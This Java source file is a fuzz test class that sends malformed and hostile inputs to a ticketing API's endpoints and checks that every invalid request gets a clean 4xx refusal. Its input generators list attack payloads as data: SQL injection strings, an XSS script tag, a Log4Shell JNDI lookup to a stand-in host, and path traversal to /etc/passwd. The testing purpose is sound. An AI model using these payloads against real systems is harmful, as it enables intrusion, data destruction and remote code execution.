package io.surge.ticketing.chaos;

import java.math.BigInteger;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.Function;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;

/**
 * Abuse of every public endpoint with generated inputs (jqwik's generators, outside a property): malformed JSON,
 * wrong types, huge and negative numbers, unicode and control characters, SQL- and script-like strings, unknown and
 * other users' ids, duplicate and out-of-range ticket ids, over-limit quantities, oversized bodies and headers.
 * Every input is invalid for a write (each body breaks at least one rule); a read may be valid. The property: never
 * a 5xx, every refusal a 4xx problem+json, and no write accepted ({@link #accepted()} for writes must stay 0).
 */
final class Fuzz {

    /** What the inputs did. */
    record Tally(long tried, long rejectedCorrectly, long validReadsAnswered, long serverErrors, long wrong,
            List<String> examples) {
    }

    private final Gateway gateway;
    private final Identity identity;
    private final ChaosSale sale;
    private final AtomicLong tried = new AtomicLong();
    private final AtomicLong rejected = new AtomicLong();
    private final AtomicLong validReads = new AtomicLong();
    private final AtomicLong serverErrors = new AtomicLong();
    private final AtomicLong wrong = new AtomicLong();
    private final List<String> examples = new ArrayList<>();

    Fuzz(Gateway gateway, Identity identity, ChaosSale sale) {
        this.gateway = gateway;
        this.identity = identity;
        this.sale = sale;
    }

    // ------------------------------------------------------------------------------------------ generators

    static Arbitrary<String> hostileText() {
        return Arbitraries.oneOf(
                Arbitraries.strings().ofMaxLength(300),
                Arbitraries.strings().withCharRange('\u0000', '\u001f').ofMinLength(1).ofMaxLength(20),
                Arbitraries.strings().withCharRange('\u0370', '\u2fff').ofMinLength(1).ofMaxLength(50),
                Arbitraries.of("' OR 1=1 --", "\"; DROP TABLE bookings; --", "1; SELECT pg_sleep(10)",
                        "<script>alert(1)</script>", "${jndi:ldap://evil.example/x}", "../../etc/passwd", "%00", "\u0000",
                        "\uFEFF", "\ud800", "NaN", "Infinity", "-0", "{{7*7}}", "admin' --", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🎟️"),
                Arbitraries.strings().alpha().ofMinLength(1_000).ofMaxLength(12_000));
    }

    static Arbitrary<String> hostileNumber() {
        return Arbitraries.oneOf(
                Arbitraries.of("0", "-1", "-9223372036854775808", "9223372036854775807", "9223372036854775808",
                        "1e308", "1e400", "-1e400", "0.5", "1.0000000000000001", "00012", "0x10"),
                Arbitraries.bigIntegers().between(BigInteger.TEN.pow(19), BigInteger.TEN.pow(40)).map(BigInteger::toString),
                Arbitraries.longs().between(-1_000_000_000_000L, -1).map(Object::toString));
    }

    /** A JSON value of the wrong kind for a number field (raw JSON text). */
    static Arbitrary<String> notANumber() {
        return Arbitraries.oneOf(
                // a string that does not read as a number (Jackson would coerce "5" to 5, a valid input)
                hostileText().filter(text -> !text.strip().matches("[-+]?[0-9.eE]*")).map(Fuzz::quoted),
                Arbitraries.of("true", "false", "null", "[]", "{}", "[1,2]", "{\"$gt\":0}", "\"one\""));
    }

    /** Broken JSON documents. */
    static Arbitrary<String> malformedJson() {
        return Arbitraries.oneOf(
                Arbitraries.of("", "{", "}", "[", "{\"event_id\":", "{\"event_id\":1,}", "{'event_id':1}", "{\"a\":1}{\"b\":2}",
                        "\u0000", "{\"event_id\":1", "nul", "{\"event_id\":\"\\ud800\"}", "[{}]", "\"just a string\"", "42"),
                hostileText());
    }

    private static String quoted(String text) {
        return Gateway.JSON.writeValueAsString(text);
    }

    // ------------------------------------------------------------------------------------------ the run

    Tally run(int perEndpoint) {
        String fan = "fuzz-" + UUID.randomUUID();
        String jwt = identity.token(fan);
        String admission = identity.admissionToken(fan, sale.eventId());
        String admin = identity.token("fuzz-admin", "admin");
        long event = sale.eventId();
        long ticket = sale.ticketIds().get(0);
        long section = sale.sectionIds().get(0);

        // reads: ids and query parameters
        for (String id : hostileNumber().sampleStream().limit(perEndpoint).toList()) {
            read("event", "/api/v1/events/" + encode(id));
            read("seatmap", "/api/v1/events/" + encode(id) + "/seatmap");
            read("availability", "/api/v1/events/" + encode(id) + "/availability");
        }
        for (String text : hostileText().sampleStream().limit(perEndpoint).toList()) {
            read("event by text id", "/api/v1/events/" + encode(text));
            read("search q", "/api/v1/events/search?q=" + encode(text));
            read("search city", "/api/v1/events/search?city=" + encode(text) + "&category=" + encode(text));
            read("search dates", "/api/v1/events/search?from=" + encode(text) + "&to=" + encode(text));
            read("progress", "/api/v1/waiting-room/" + encode(text) + "/progress");
        }
        for (String number : hostileNumber().sampleStream().limit(perEndpoint).toList()) {
            read("search paging", "/api/v1/events/search?q=a&page=" + encode(number) + "&size=" + encode(number));
        }

        // the waiting room
        for (String id : hostileNumber().sampleStream().limit(perEndpoint).toList()) {
            write("join", "POST", "/api/v1/waiting-room/" + encode(id) + "/join", jwt, null);
            write("status", "GET", "/api/v1/waiting-room/" + encode(id) + "/status", jwt, null);
        }

        // reservations: every body breaks a rule
        List<Function<String, String>> reserveBodies = List.of(
                v -> "{\"event_id\":" + v + ",\"section_id\":" + section + ",\"quantity\":1}",
                v -> "{\"event_id\":" + event + ",\"section_id\":" + v + ",\"quantity\":1}",
                v -> "{\"event_id\":" + event + ",\"section_id\":" + section + ",\"quantity\":" + v + "}",
                v -> "{\"event_id\":" + event + ",\"ticket_ids\":[" + v + "]}",
                v -> "{\"event_id\":" + event + ",\"ticket_ids\":" + v + "}");
        List<String> numbers = hostileNumber().filter(n -> !n.equals("1") && !n.equals("00012") && !n.equals("0x10"))
                .sampleStream().limit(perEndpoint).toList();
        List<String> notNumbers = notANumber().sampleStream().limit(perEndpoint).toList();
        for (Function<String, String> body : reserveBodies) {
            numbers.forEach(v -> reserve(jwt, admission, body.apply(v)));
            notNumbers.forEach(v -> reserve(jwt, admission, body.apply(v)));
        }
        malformedJson().sampleStream().limit(perEndpoint).forEach(v -> reserve(jwt, admission, v));
        reserve(jwt, admission, "{\"event_id\":" + event + ",\"ticket_ids\":[" + ticket + "," + ticket + "]}");
        reserve(jwt, admission, "{\"event_id\":" + event + ",\"ticket_ids\":[" + String.join(",",
                sale.ticketIds().subList(0, 11).stream().map(String::valueOf).toList()) + "]}");
        reserve(jwt, admission, "{\"event_id\":" + event + ",\"ticket_ids\":[999999999999]}");
        reserve(jwt, admission, "{\"event_id\":" + event + ",\"section_id\":" + section + ",\"quantity\":11}");
        reserve(jwt, admission, "{\"event_id\":" + event + ",\"section_id\":" + section + ",\"quantity\":1,\"ticket_ids\":["
                + ticket + "]}");
        reserve(jwt, admission, "{\"event_id\":" + event + ",\"section_id\":" + section + ",\"quantity\":1,\"pad\":\""
                + "x".repeat(20_000) + "\"}");
        reserve(jwt, identity.admissionToken(fan, event + 1), "{\"event_id\":" + event + ",\"section_id\":" + section
                + ",\"quantity\":1}");

        // bookings: unknown ids, other fans' ids, payment bodies and keys
        List<String> ids = new ArrayList<>(hostileText().sampleStream().limit(perEndpoint / 2).toList());
        for (int i = 0; i < perEndpoint / 2; i++) {
            ids.add(UUID.randomUUID().toString());
        }
        for (String id : ids) {
            write("booking", "GET", "/api/v1/bookings/" + encode(id), jwt, null);
            write("cancel", "DELETE", "/api/v1/bookings/" + encode(id), jwt, null, "X-Admission-Token", admission);
            write("pay unknown", "POST", "/api/v1/bookings/" + encode(id) + "/payment", jwt, "{\"payment_token\":\"tok_visa\"}",
                    "Idempotency-Key", UUID.randomUUID().toString(), "X-Admission-Token", admission);
        }
        String someId = UUID.randomUUID().toString();
        for (String token : notANumber().sampleStream().limit(perEndpoint).toList()) {
            write("pay body", "POST", "/api/v1/bookings/" + someId + "/payment", jwt, "{\"payment_token\":" + token + "}",
                    "Idempotency-Key", UUID.randomUUID().toString(), "X-Admission-Token", admission);
        }
        for (String key : List.of("", "k".repeat(300), "\u0001\u0002", "key with spaces", "%00%0d%0a")) {
            write("pay key", "POST", "/api/v1/bookings/" + someId + "/payment", jwt, "{\"payment_token\":\"tok_visa\"}",
                    "Idempotency-Key", key.isEmpty() ? " " : key.replaceAll("[\\x00-\\x1f]", "?"), "X-Admission-Token", admission);
        }

        // admin: bodies of the wrong shape (never valid: each breaks a rule)
        for (String v : notNumbers) {
            write("admin venue", "POST", "/api/v1/admin/venues", admin,
                    "{\"name\":\"x\",\"city\":\"y\",\"country\":\"US\",\"sections\":[{\"name\":\"A\",\"rows\":" + v
                            + ",\"seats_per_row\":2}]}");
            write("admin event", "POST", "/api/v1/admin/events", admin,
                    "{\"name\":\"x\",\"performer\":\"y\",\"category\":\"concert\",\"venue_id\":" + v
                            + ",\"starts_at\":\"2030-01-01T00:00:00Z\",\"on_sale_at\":\"2029-01-01T00:00:00Z\",\"price_tiers\":[]}");
            if (!v.equals("null")) { // null keeps the current value (a partial update): a valid request
                write("admin waiting room", "PUT", "/api/v1/admin/events/" + event + "/waiting-room", admin,
                        "{\"admission_rate_per_minute\":" + v + "}");
            }
        }
        for (String v : List.of("-1", "-100", "-9223372036854775808", "-1e400", "-2147483649")) {
            write("admin waiting room", "PUT", "/api/v1/admin/events/" + event + "/waiting-room", admin,
                    "{\"admission_rate_per_minute\":" + v + "}");
        }
        malformedJson().sampleStream().limit(perEndpoint).forEach(v -> write("admin malformed", "POST", "/api/v1/admin/venues", admin, v));
        return new Tally(tried.get(), rejected.get(), validReads.get(), serverErrors.get(), wrong.get(), List.copyOf(examples));
    }

    private void reserve(String jwt, String admission, String body) {
        write("reserve", "POST", "/api/v1/bookings/reserve", jwt, body, "X-Admission-Token", admission);
    }

    /** A read: a 2xx is fine when the input happens to be valid; otherwise a 4xx problem. */
    private void read(String label, String path) {
        judge(label, path, gateway.get("fuzz " + label, path, null), true);
    }

    /** A write (or a read of one's own resources): never accepted here, every input is invalid or not the fan's. */
    private void write(String label, String method, String path, String token, String body, String... headers) {
        judge(label, path, gateway.send("fuzz " + label, method, path, token, body, headers), method.equals("GET"));
    }

    private void judge(String label, String path, Gateway.Response response, boolean mayBeValid) {
        tried.incrementAndGet();
        int status = response.status();
        if (status == 429) {
            Gateway.pause(response.retryAfterMillis()); // our own flood: not a verdict on the input
            tried.decrementAndGet();
            return;
        }
        if (status >= 500 || status == 0) {
            serverErrors.incrementAndGet();
            example(label + " " + status + " " + shorten(path) + " " + shorten(response.text()));
        } else if (status >= 400 && response.isProblem()) {
            rejected.incrementAndGet();
        } else if (status / 100 == 2 && mayBeValid) {
            validReads.incrementAndGet();
        } else {
            wrong.incrementAndGet();
            example(label + " " + status + " (not a problem+json refusal) " + shorten(path) + " " + shorten(response.text()));
        }
    }

    private synchronized void example(String text) {
        if (examples.size() < 10) {
            examples.add(text);
        }
    }

    private static String shorten(String text) {
        String clean = text.replaceAll("[\\x00-\\x1f]", "?");
        return clean.length() > 120 ? clean.substring(0, 120) + "..." : clean;
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    static Map<String, Object> counts(Tally tally) {
        Map<String, Object> counts = new LinkedHashMap<>();
        counts.put("tried", tally.tried());
        counts.put("rejected correctly (4xx problem+json)", tally.rejectedCorrectly());
        counts.put("valid reads answered", tally.validReadsAnswered());
        counts.put("5xx or no answer", tally.serverErrors());
        counts.put("other (not a problem, or a write accepted)", tally.wrong());
        return counts;
    }
}
